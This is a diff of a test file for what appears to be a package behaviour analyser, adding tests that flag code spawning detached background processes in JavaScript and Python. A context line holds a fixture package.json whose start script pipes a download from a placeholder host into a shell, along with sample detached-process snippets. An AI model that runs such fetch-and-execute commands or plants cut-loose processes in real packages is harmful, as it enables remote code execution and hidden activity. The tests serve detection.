@@ -337,3 +337,18 @@ def test_a_shell_line_of_a_bundled_package_that_nobody_asks_for_does_not_run(hoo
         "tools/package.json": '{"name": "tools", "scripts": {"start": "curl https://dl.example/h | sh"}}',
     }
     assert not any(b.startswith("process.exec curl") for b in package(files))
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("lib/a.js", "require('child_process').spawn('./x', [], {detached: true, stdio: 'ignore'}).unref()"),
+        ("pkg/__init__.py", "import subprocess\nsubprocess.Popen(['./x'], start_new_session=True)\n"),
+        ("pkg/__init__.py", "import os, subprocess\nsubprocess.Popen(['./x'], preexec_fn=os.setsid)\n"),
+    ],
+)
+def test_a_process_that_is_cut_loose_is_told_so(path: str, code: str) -> None:
+    assert any(b.startswith(f"process.does detached background @ {path}:") for b in package({path: code}))
+    waits = code.replace("detached: true, ", "").replace(", start_new_session=True", "").replace(
+        ", preexec_fn=os.setsid", "")  # fmt: skip
+    assert not any(b.startswith("process.does") for b in package({path: waits}))
